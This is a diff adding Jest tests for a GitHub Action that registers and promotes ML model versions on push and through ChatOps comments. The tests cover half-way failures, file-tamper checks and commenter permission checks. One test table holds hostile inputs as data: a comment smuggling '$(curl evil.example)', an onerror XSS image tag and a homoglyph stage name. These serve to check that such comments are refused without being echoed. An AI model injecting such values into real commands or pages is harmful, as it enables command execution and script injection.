@@ -4,7 +4,7 @@
  */
 import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
 import { createHash } from 'node:crypto';
-import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { getOctokit } from '@actions/github';
@@ -16,6 +16,7 @@ import { FakeGitHub, runActionBundle, type ActionRun } from '@mlgate/testkit';
 const TOKEN = 'ghs_promote_action_token';
 
 const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
+const readText = (path: string) => readFile(path, 'utf8');
 
 describe('actions/promote run as the runner runs it', () => {
   let gh: FakeGitHub;
@@ -33,8 +34,11 @@ describe('actions/promote run as the runner runs it', () => {
     await rm(workspace, { recursive: true, force: true });
   });
 
-  /** A training run's files in `dir`: a model, metrics, predictions, and the manifest recording their digests. */
-  async function trainingRun(dir: string, auc: number) {
+  /**
+   * A training run's files in `dir`: a model, metrics, predictions, and the manifest recording their digests.
+   * `workingDirectory` is what train records: the folder it ran in, relative to the repository root.
+   */
+  async function trainingRun(dir: string, auc: number, workingDirectory = '.') {
     await mkdir(dir, { recursive: true });
     const files = {
       'model.pkl': `model trained to auc ${auc}\n`,
@@ -49,7 +53,7 @@ describe('actions/promote run as the runner runs it', () => {
       fingerprint: sha256(String(auc)),
       cacheKey: `mlgate-train-churn-${sha256(String(auc))}`,
       command: 'python train.py',
-      workingDirectory: '.',
+      workingDirectory,
       params: { 'params.yaml': { lr: auc } },
       deps: [],
       outs: [entry('model.pkl')],
@@ -250,6 +254,48 @@ describe('actions/promote run as the runner runs it', () => {
     expect((await state()).stages.get('production')?.version.version).toBe('v1.0.0');
   });
 
+  it('a promotion that breaks half-way (the tag write refused after the deployment started) still ends its deployment, in error; a re-run completes it', async () => {
+    const commit = await seedVersion('v1.0.0', 'pass');
+    // The token can deploy but not push tags (a workflow granting `deployments: write` without `contents: write`).
+    const refused = gh.fail({
+      operationId: 'git/create-ref',
+      status: 403,
+      body: { message: 'Resource not accessible by integration' },
+      times: Infinity,
+    });
+
+    const run = await dispatch({ version: 'v1.0.0', stage: 'production' });
+
+    expect(run.exitCode).toBe(1);
+    expect(errors(run).join('\n')).toContain('Resource not accessible by integration');
+    expect(refused.hits).toBe(1);
+    expect(gh.state.git.refs.has('refs/tags/churn#production#1')).toBe(false);
+    const [broken] = gh.state.deployments.list({});
+    expect(broken).toMatchObject({ sha: commit, environment: 'churn-production' });
+    expect(deploymentStates(broken!.id)).toEqual(['in_progress', 'error']);
+
+    refused.cancel();
+    const again = await dispatch({ version: 'v1.0.0', stage: 'production' });
+
+    expect(again.exitCode).toBe(0);
+    expect(again.outputs).toMatchObject({ result: 'promoted', tag: 'churn#production#1' });
+    const [fixed] = gh.state.deployments.list({});
+    expect(fixed!.id).not.toBe(broken!.id);
+    expect(deploymentStates(fixed!.id)).toEqual(['in_progress', 'success']);
+  });
+
+  it('a deployment whose in-progress status GitHub refused still ends in error, and nothing is promoted', async () => {
+    await seedVersion('v1.0.0', 'pass');
+    gh.fail({ operationId: 'repos/create-deployment-status', status: 422, times: 1 });
+
+    const run = await dispatch({ version: 'v1.0.0', stage: 'production' });
+
+    expect(run.exitCode).toBe(1);
+    const [deployment] = gh.state.deployments.list({});
+    expect(deploymentStates(deployment!.id)).toEqual(['error']);
+    expect(gh.state.git.refs.has('refs/tags/churn#production#1')).toBe(false);
+  });
+
   it('names the missing dispatch inputs and an unknown event in one line each', async () => {
     const missing = await dispatch({ stage: 'production' });
     expect(missing.exitCode).toBe(1);
@@ -266,5 +312,375 @@ describe('actions/promote run as the runner runs it', () => {
     expect(errors(other)).toEqual([
       'promote runs on workflow_dispatch (assign), push (register) or issue_comment (chatops), not pull_request',
     ]);
+  });
+  describe('on push', () => {
+    const PUSH_TIMEOUT = 120_000;
+
+    /** The training run's files under `run/` (trained with `working-directory: run`), and the pushed commit. */
+    async function trained(verdict: 'pass' | 'fail'): Promise<string> {
+      await trainingRun(join(workspace, 'run'), 0.9, 'run');
+      await gateReport(join(workspace, 'run'), verdict);
+      return gh.state.git.addCommit({ parents: [gh.state.headSha], message: 'train on main' }).sha;
+    }
+
+    function push(commit: string, inputs: Record<string, string> = {}, ref = 'refs/heads/main'): Promise<ActionRun> {
+      return runActionBundle({
+        action: 'promote',
+        inputs: { model: 'churn', manifest: 'run/mlgate.manifest.json', report: 'run/report.json', ...inputs },
+        env: { ...gh.env(TOKEN), GITHUB_ACTOR: 'ada', GITHUB_RUN_ID: '42' },
+        githubToken: TOKEN,
+        eventName: 'push',
+        event: { ref, after: commit, repository: { default_branch: 'main' } },
+        cwd: workspace,
+        timeoutMs: 90_000,
+      });
+    }
+
+    const writes = () =>
+      gh.requests
+        .filter((r) => r.method !== 'GET')
+        .map((r) => {
+          const body = r.body as { draft?: boolean; state?: string } | undefined;
+          const detail = r.operationId === 'repos/create-deployment-status' ? body?.state : body?.draft;
+          return detail === undefined ? r.operationId : `${r.operationId} ${String(detail)}`;
+        });
+
+    it(
+      'registers the pushed commit, releases it draft → assets (digests checked) → published, assigns staging; a re-run writes nothing',
+      async () => {
+        const commit = await trained('pass');
+
+        const run = await push(commit);
+
+        expect(errors(run)).toEqual([]);
+        expect(run.exitCode).toBe(0);
+        expect(run.outputs).toMatchObject({
+          result: 'promoted',
+          tag: 'churn#staging#1',
+          version: 'v0.0.1',
+          stage: 'staging',
+          'previous-version': '',
+          'release-url': expect.stringMatching(
+            /^https:\/\/github\.com\/acme\/churn\/releases\/tag\/churn(@|%40)v0\.0\.1$/,
+          ),
+        });
+        const registered = tagMessage('churn@v0.0.1');
+        expect(registered.kind === 'event' && registered.event).toMatchObject({
+          action: 'register',
+          actor: 'ada',
+          manifest: { digest: sha256(await readText(join(workspace, 'run', 'mlgate.manifest.json'))) },
+          gate: { verdict: 'pass' },
+        });
+        expect((await state()).versions.map((v) => [v.version, v.commit])).toEqual([['v0.0.1', commit]]);
+        expect((await state()).stages.get('staging')?.version.version).toBe('v0.0.1');
+        // The order a run leaves things in: the version's tag, its release as a draft, every asset, the release
+        // published; then the staging assignment inside its deployment.
+        expect(writes()).toEqual([
+          'git/create-tag',
+          'git/create-ref',
+          'repos/create-release true',
+          ...Array(6).fill('repos/upload-release-asset'),
+          'repos/update-release false',
+          'repos/create-deployment',
+          'repos/create-deployment-status in_progress',
+          'git/create-tag',
+          'git/create-ref',
+          'repos/create-deployment-status success',
+        ]);
+        const [release] = gh.state.releases.list();
+        expect(release).toMatchObject({ tagName: 'churn@v0.0.1', draft: false });
+        const assets = gh.state.releases.assetsOf(release!.id);
+        expect(Object.fromEntries(assets.map((a) => [a.name, a.digest]))).toMatchObject({
+          'model.pkl': `sha256:${sha256('model trained to auc 0.9\n')}`,
+          'metrics.json': `sha256:${sha256(JSON.stringify({ auc: 0.9 }))}`,
+          'predictions.csv': `sha256:${sha256('id,label,score\n1,1,0.9\n2,0,0.2\n')}`,
+          'mlgate.manifest.json': expect.stringMatching(/^sha256:/),
+          'report.json': expect.stringMatching(/^sha256:/),
+          'MODEL_CARD.md': expect.stringMatching(/^sha256:/),
+        });
+        const [deployment] = gh.state.deployments.list({});
+        expect(deployment).toMatchObject({ sha: commit, environment: 'churn-staging' });
+        expect(deploymentStates(deployment!.id)).toEqual(['in_progress', 'success']);
+        expect(plain(run)).toContain('Registered `churn@v0.0.1`.');
+
+        const before = gh.requests.length;
+        const again = await push(commit);
+
+        expect(again.exitCode).toBe(0);
+        expect(again.outputs).toMatchObject({ result: 'unchanged', tag: 'churn#staging#1', version: 'v0.0.1' });
+        expect(gh.requests.slice(before).filter((r) => r.method !== 'GET')).toEqual([]);
+        expect(gh.state.releases.list()).toHaveLength(1);
+        expect(gh.state.deployments.list({})).toHaveLength(1);
+        expect(plain(again)).toContain('Registered `churn@v0.0.1` (already).');
+        expect(plain(again)).toContain('Release `churn@v0.0.1`: unchanged, 6 assets.');
+      },
+      PUSH_TIMEOUT,
+    );
+
+    it('refuses a model file that changed after training, before anything is written', async () => {
+      const commit = await trained('pass');
+      await writeFile(join(workspace, 'run', 'model.pkl'), 'swapped after training\n');
+
+      const run = await push(commit);
+
+      expect(run.exitCode).toBe(1);
+      expect(errors(run)).toEqual([
+        `run/mlgate.manifest.json: run/model.pkl has sha256 ${sha256('swapped after training\n')}, but the manifest ` +
+          `recorded ${sha256('model trained to auc 0.9\n')}: the file changed after training, so it is not the ` +
+          'model trained; nothing was registered',
+      ]);
+      expect(writes()).toEqual([]);
+      expect([...gh.state.git.refs.keys()].filter((ref) => ref.startsWith('refs/tags/'))).toEqual([]);
+    });
+
+    it(
+      'registers a version whose gate failed, with its verdict and release, but assigns nothing and says why',
+      async () => {
+        const commit = await trained('fail');
+
+        const run = await push(commit);
+
+        expect(errors(run)).toEqual([]);
+        expect(run.exitCode).toBe(0);
+        expect(run.outputs).toMatchObject({ result: 'registered', tag: 'churn@v0.0.1', stage: '' });
+        const registered = tagMessage('churn@v0.0.1');
+        expect(registered.kind === 'event' && registered.event.gate?.verdict).toBe('fail');
+        expect(plain(run)).toContain('Not assigned to `staging`: the gate verdict is `fail`.');
+        expect((await state()).stages.size).toBe(0);
+        expect(gh.state.deployments.list({})).toEqual([]);
+        expect(gh.state.releases.list()).toMatchObject([{ tagName: 'churn@v0.0.1', draft: false }]);
+      },
+      PUSH_TIMEOUT,
+    );
+
+    it('does nothing on a push to another branch', async () => {
+      const commit = await trained('pass');
+
+      const run = await push(commit, {}, 'refs/heads/feature/x');
+
+      expect(run.exitCode).toBe(0);
+      expect(run.outputs).toEqual({});
+      expect(run.stdout).toContain('A push to feature/x, not the default branch: nothing is registered.');
+      expect(gh.requests).toEqual([]);
+    });
+
+    it('fails as a configuration error, before registering, when the stage to assign is not configured', async () => {
+      const commit = await trained('pass');
+      await writeFile(join(workspace, 'mlgate.yml'), 'version: 1\nregistry:\n  stages: [qa, production]\n');
+
+      const run = await push(commit);
+
+      expect(run.exitCode).toBe(1);
+      expect(errors(run)).toEqual([
+        'mlgate.yml: registry.stages: stage "staging" (assigned on push when the gate passes) is not a configured ' +
+          'stage (qa, production): set the `stage` input, or add it to registry.stages; nothing was registered',
+      ]);
+      expect(writes()).toEqual([]);
+    });
+  });
+  describe('on issue_comment (chatops)', () => {
+    const CHATOPS_TIMEOUT = 90_000;
+
+    /** A comment on `issue` by `author` in an `issue_comment` event whose actor is `actor` (another person). */
+    function comment(
+      body: string,
+      options: { issue: number; author: string; actor?: string; action?: string; pullRequest?: boolean; at?: Date },
+    ): Promise<ActionRun> {
+      const { issue, author, actor = 'mallory', action = 'created', pullRequest = false, at = new Date() } = options;
+      const commentId = 9000 + issue;
+      return runActionBundle({
+        action: 'promote',
+        inputs: {},
+        env: { ...gh.env(TOKEN), GITHUB_ACTOR: actor, GITHUB_RUN_ID: '43' },
+        githubToken: TOKEN,
+        eventName: 'issue_comment',
+        event: {
+          action,
+          issue: {
+            number: issue,
+            ...(pullRequest && { pull_request: { url: `${gh.url}/repos/acme/churn/pulls/${issue}` } }),
+          },
+          comment: {
+            id: commentId,
+            body,
+            user: { login: author, type: 'User' },
+            html_url: `https://github.com/acme/churn/issues/${issue}#issuecomment-${commentId}`,
+            created_at: at.toISOString(),
+          },
+          sender: { login: actor, type: 'User' },
+        },
+        cwd: workspace,
+        timeoutMs: 60_000,
+      });
+    }
+
+    /** The replies on `issue` as plain text: escaping undone, and the zero-width spaces that defuse @ and #. */
+    const replies = (issue: number) =>
+      [...gh.state.issues.comments.values()]
+        .filter((c) => c.issueNumber === issue)
+        .map((c) => c.body.replace(/&#8203;/g, '').replace(/\\(.)/g, '$1'));
+    const permissionLookups = () =>
+      gh.requestsMatching({ operationId: 'repos/get-collaborator-permission-level' }).map((r) => r.canonicalPath);
+    const stageTags = () => [...gh.state.git.refs.keys()].filter((ref) => ref.startsWith('refs/tags/churn#'));
+
+    it(
+      "promotes for a commenter with write permission (the comment's author, asked of the API) and replies with what the stage held before",
+      async () => {
+        await seedVersion('v1.0.0', 'pass');
+        await seedVersion('v1.1.0', 'pass', 0.91);
+        gh.state.setPermission('ada', 'write');
+        gh.state.setPermission('mallory', 'read');
+        const { number } = gh.state.issues.addIssue({ title: 'Release churn' });
+
+        const first = await comment('/mlgate promote churn@v1.1.0 production', { issue: number, author: 'ada' });
+        expect(errors(first)).toEqual([]);
+        expect(first.outputs).toMatchObject({ result: 'promoted', tag: 'churn#production#1', version: 'v1.1.0' });
+
+        // A rollback by command: the reply says what production held.
+        const back = await comment('  /mlgate promote churn@v1.0.0 production\n', { issue: number, author: 'ada' });
+
+        expect(back.exitCode).toBe(0);
+        expect(back.outputs).toMatchObject({
+          result: 'promoted',
+          tag: 'churn#production#2',
+          version: 'v1.0.0',
+          'previous-version': 'v1.1.0',
+        });
+        expect(permissionLookups()).toEqual([
+          '/repos/acme/churn/collaborators/ada/permission',
+          '/repos/acme/churn/collaborators/ada/permission',
+        ]);
+        const [, reply] = replies(number);
+        expect(reply).toContain(
+          'Promoted `churn@v1.0.0` to `production`: `churn#production#2`. `production` held `v1.1.0` before (`churn#production#1`).',
+        );
+        const message = tagMessage('churn#production#2');
+        expect(message.kind === 'event' && message.event).toMatchObject({
+          actor: 'ada',
+          reason: expect.stringContaining(`promote in issue #${number}`),
+        });
+        const deployments = gh.state.deployments.list({ environment: 'churn-production' });
+        // Newest first; GitHub marks the deployment replaced by the rollback inactive.
+        expect(deployments.map((d) => deploymentStates(d.id))).toEqual([
+          ['in_progress', 'success'],
+          ['in_progress', 'success', 'inactive'],
+        ]);
+      },
+      CHATOPS_TIMEOUT,
+    );
+
+    it('refuses a commenter with read permission, though the actor is an admin: the reply says so, nothing is written', async () => {
+      await seedVersion('v1.0.0', 'pass');
+      gh.state.setPermission('rita', 'read');
+      gh.state.setPermission('mallory', 'admin');
+      const { number } = gh.state.issues.addIssue({});
+
+      const run = await comment('/mlgate promote churn@v1.0.0 production', { issue: number, author: 'rita' });
+
+      expect(run.exitCode).toBe(1);
+      expect(run.outputs.result).toBe('refused');
+      expect(permissionLookups()).toEqual(['/repos/acme/churn/collaborators/rita/permission']);
+      expect(replies(number)).toEqual([
+        expect.stringContaining(
+          'Refused: `churn@v1.0.0` cannot enter `production`:\n\n- the commenter has read permission on the repository; promoting takes write (or admin)\n',
+        ),
+      ]);
+      expect(replies(number)[0]).not.toContain('force');
+      expect(stageTags()).toEqual([]);
+      expect(gh.state.deployments.list({})).toEqual([]);
+    });
+
+    it('does nothing for an edited comment, even one that now reads as a command', async () => {
+      await seedVersion('v1.0.0', 'pass');
+      gh.state.setPermission('ada', 'write');
+      const { number } = gh.state.issues.addIssue({});
+      const before = gh.requests.length;
+
+      const run = await comment('/mlgate promote churn@v1.0.0 production', {
+        issue: number,
+        author: 'ada',
+        action: 'edited',
+      });
+
+      expect(run.exitCode).toBe(0);
+      expect(run.outputs).toEqual({});
+      expect(run.stdout).toContain('The comment was edited, not created: only new comments are commands.');
+      expect(gh.requests.slice(before)).toEqual([]);
+      expect(replies(number)).toEqual([]);
+    });
+
+    it.each([
+      ['a second line', '/mlgate promote churn@v1.0.0 production\n<img src=x onerror=alert(1)>'],
+      ['a trailing word', '/mlgate promote churn@v1.0.0 production $(curl evil.example)'],
+      ['another verb', '/mlgate deploy-everything churn@v1.0.0 production'],
+      ['a look-alike character', '/mlgate promote churn@v1.0.0 prоduction'],
+    ])(
+      'refuses a comment outside the grammar (%s) without echoing it, before asking for permissions',
+      async (_, body) => {
+        gh.state.setPermission('ada', 'write');
+        const { number } = gh.state.issues.addIssue({});
+
+        const run = await comment(body, { issue: number, author: 'ada' });
+
+        expect(run.exitCode).toBe(1);
+        expect(run.outputs.result).toBe('refused');
+        const [reply] = replies(number);
+        expect(reply).toContain('Refused the comment:');
+        expect(reply).toContain('not a command mlgate takes');
+        expect(reply).not.toContain('force');
+        expect(reply).toContain('`/mlgate promote <model>@<version> <stage>`');
+        for (const part of ['onerror', 'curl', 'evil', 'deploy-everything', 'prоduction']) {
+          expect(reply).not.toContain(part);
+          expect(run.summary).not.toContain(part);
+          expect(run.stdout).not.toContain(part);
+        }
+        expect(permissionLookups()).toEqual([]);
+        expect(stageTags()).toEqual([]);
+      },
+    );
+
+    it(
+      'binds the command to its commit: on a pull request, a version registered at the head promotes, one registered elsewhere or after the comment is refused',
+      async () => {
+        const head = await seedVersion('v1.0.0', 'pass');
+        const other = await seedVersion('v1.1.0', 'pass', 0.91);
+        gh.state.setPermission('ada', 'write');
+        const pull = gh.state.issues.addPull({ head: { ref: 'train-v1', sha: head } });
+        const number = pull.number;
+
+        const elsewhere = await comment('/mlgate promote churn@v1.1.0 staging', {
+          issue: number,
+          author: 'ada',
+          pullRequest: true,
+        });
+        expect(elsewhere.exitCode).toBe(1);
+        expect(replies(number)[0]).toContain(
+          `churn@v1.1.0 is registered at commit ${other.slice(0, 7)}, which is neither the head (${head.slice(0, 7)}) nor the merge commit of pull request #${number}`,
+        );
+
+        const early = await comment('/mlgate promote churn@v1.0.0 staging', {
+          issue: number,
+          author: 'ada',
+          pullRequest: true,
+          at: new Date(Date.now() - 3_600_000),
+        });
+        expect(early.exitCode).toBe(1);
+        expect(replies(number)[1]).toContain(
+          'churn@v1.0.0 was registered after the comment was written (or one of the times is unknown); comment again to promote it',
+        );
+        expect(stageTags()).toEqual([]);
+        expect(gh.state.deployments.list({})).toEqual([]);
+
+        const bound = await comment('/mlgate promote churn@v1.0.0 staging', {
+          issue: number,
+          author: 'ada',
+          pullRequest: true,
+        });
+        expect(bound.exitCode).toBe(0);
+        expect(bound.outputs).toMatchObject({ result: 'promoted', tag: 'churn#staging#1', version: 'v1.0.0' });
+        expect(replies(number)[2]).toContain('`staging` held nothing before.');
+      },
+      CHATOPS_TIMEOUT,
+    );
   });
 });
